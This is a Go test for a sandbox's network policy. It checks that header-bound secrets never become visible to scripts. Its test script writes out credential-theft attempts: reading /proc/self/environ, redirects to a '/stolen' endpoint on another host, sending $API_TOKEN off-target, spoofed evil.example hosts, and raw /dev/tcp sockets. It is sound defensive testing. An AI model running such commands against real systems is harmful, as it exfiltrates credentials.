package network_test

import (
	"bytes"
	"context"
	"crypto/x509"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/limpet-sh/limpet"
	"github.com/limpet-sh/limpet/netpolicy"
	"github.com/stretchr/testify/require"
)

const (
	bound     = "s3cr3t-of-the-header-0123456789"
	withheld  = "s3cr3t-behind-the-placeholder-42"
	unrelated = "what the script may see"
)

// A witness notes what a server has received.
type witness struct {
	mu   sync.Mutex
	seen []string
}

func (w *witness) note(r *http.Request) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.seen = append(w.seen, fmt.Sprint(r.Header))
}

func (w *witness) String() string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return strings.Join(w.seen, "\n")
}

func portOf(t *testing.T, text string) uint16 {
	u, err := url.Parse(text)
	require.NoError(t, err)
	n, err := strconv.ParseUint(u.Port(), 10, 16)
	require.NoError(t, err)
	return uint16(n)
}

// TestSecretsAreNeverSeen has a script try everything to read what is bound to a
// host whose server sends back all that it gets.
func TestSecretsAreNeverSeen(t *testing.T) {
	var inside, outside witness
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		outside.note(r)
		fmt.Fprintln(w, r.Header)
	}))
	defer other.Close()
	tls := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		inside.note(r)
		w.Header().Set("X-Echo", r.Header.Get("Authorization"))
		w.Header().Set("Set-Cookie", "token="+strings.ReplaceAll(r.Header.Get("Authorization"), " ", "_"))
		if to := r.URL.Query().Get("to"); to != "" {
			http.Redirect(w, r, to, http.StatusTemporaryRedirect)
			return
		}
		for _, c := range fmt.Sprintln(r.Header, unrelated) { // a byte at a time
			io.WriteString(w, string(c))
			if r.URL.Path == "/drip" {
				w.(http.Flusher).Flush()
			}
		}
	}))
	tls.EnableHTTP2 = true
	tls.StartTLS()
	defer tls.Close()
	roots := x509.NewCertPool()
	roots.AddCert(tls.Certificate())
	port := portOf(t, tls.URL)
	origin := fmt.Sprintf("example.com:%d", port)

	var eventsMu sync.Mutex
	var events bytes.Buffer
	sh, err := limpet.New(limpet.Config{
		Network: netpolicy.Policy{
			Rules:    []netpolicy.Rule{{Host: "example.com", CIDR: netip.MustParsePrefix("127.0.0.1/32"), Port: port}},
			Loopback: []uint16{portOf(t, other.URL), port},
			Roots:    roots,
			Resolver: zone{"example.com": {"127.0.0.1"}},
			Bindings: []netpolicy.Binding{
				netpolicy.HeaderBinding{Host: origin, Name: "Authorization", Value: "Bearer " + bound},
				netpolicy.HeaderBinding{Host: origin, Env: "API_TOKEN", Value: withheld},
			},
			Log: func(e netpolicy.Event) {
				eventsMu.Lock()
				defer eventsMu.Unlock()
				fmt.Fprintf(&events, "%+v\n", e)
			},
		},
		Env: map[string]string{"B": "https://" + origin, "O": other.URL, "P": fmt.Sprint(port)},
		Watch: limpet.Watch{Event: func(_ context.Context, e *limpet.Event) {
			eventsMu.Lock()
			defer eventsMu.Unlock()
			fmt.Fprintf(&events, "%+v %+v %+v\n", *e, e.Request, e.Err)
		}},
	})
	require.NoError(t, err)
	defer sh.Close()
	out := execute(t, sh, `
		set -x; env; set; export; declare -p API_TOKEN
		curl -sv $B/; curl -si $B/; curl -sI $B/ -D heads; curl -s $B/drip; curl -s --http1.1 $B/drip -v -i -D heads1
		curl -s --http1.1 -i $B/ -w '%{json} %{header_json} %header{x-echo}'
		curl -s -c jar $B/; cat jar
		curl -s -L "$B/?to=$O/stolen"; wget -q -O - "$B/?to=$O/stolen"; curl -sL --location-trusted -H "X: $API_TOKEN" "$B/?to=$O/stolen"
		curl -s -H "Authorization: mine" $B/; curl -s -H 'Authorization:' $B/; curl -s -H 'authorization: x' $B/
		curl -s -u user:$API_TOKEN $B/; curl -s -H "X-Key: $API_TOKEN" $B/; curl -s --oauth2-bearer $API_TOKEN $B/
		curl -s -H "X-Key: $API_TOKEN" $O/; curl -s -u "u:$API_TOKEN" $O/; curl -s -d "$API_TOKEN" $B/
		curl -s -X TRACE $B/; curl -sS -H 'Host: evil.example' $B/; curl -sS http://example.com:$P/
		curl -s -r 0-5 $B/; curl -s --compressed $B/ -H 'Accept-Encoding: br'; wget -S -O - $B/; wget -q -O page $B/
		curl -sS https://127.0.0.1:$P/; curl -sS https://user:`+unrelated[:4]+`@evil.example/; curl -sS -m 0.001 $B/drip
		cat < /proc/self/environ; cat /dev/tcp/example.com/$P; exec 3<>/dev/tcp/127.0.0.1/$P; printf 'GET / HTTP/1.0\r\n\r\n' >&3; cat <&3
	`)
	require.Contains(t, inside.String(), bound, "the secret is sent")
	require.Contains(t, inside.String(), withheld, "the placeholder is replaced")
	require.NotEmpty(t, outside.String())
	all := map[string]string{"output": out, "the other host": outside.String(), "events": events.String()}
	for _, dir := range []string{"/workspace", "/tmp", "/home/user", "/etc"} {
		entries, err := sh.ReadDir(t.Context(), dir)
		require.NoError(t, err)
		for _, e := range entries {
			if e.Type().IsRegular() {
				data, err := sh.ReadFile(t.Context(), dir+"/"+e.Name())
				require.NoError(t, err)
				all[dir+"/"+e.Name()] = string(data)
			}
		}
	}
	require.Contains(t, all["/workspace/page"], unrelated)
	require.Contains(t, all, "/workspace/heads1")
	var saved bytes.Buffer
	point, err := sh.Checkpoint()
	require.NoError(t, err)
	require.NoError(t, point.Save(&saved, nil))
	all["snapshot"] = saved.String()
	for where, text := range all {
		require.NotContains(t, text, bound, where)
		require.NotContains(t, text, withheld, where)
	}
	require.Contains(t, out, strings.Repeat("*", len(bound)))
}

func execute(t *testing.T, sh *limpet.Shell, script string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	res, err := sh.Exec(ctx, limpet.Request{Script: script})
	require.NoError(t, err)
	return string(res.Stdout) + string(res.Stderr)
}
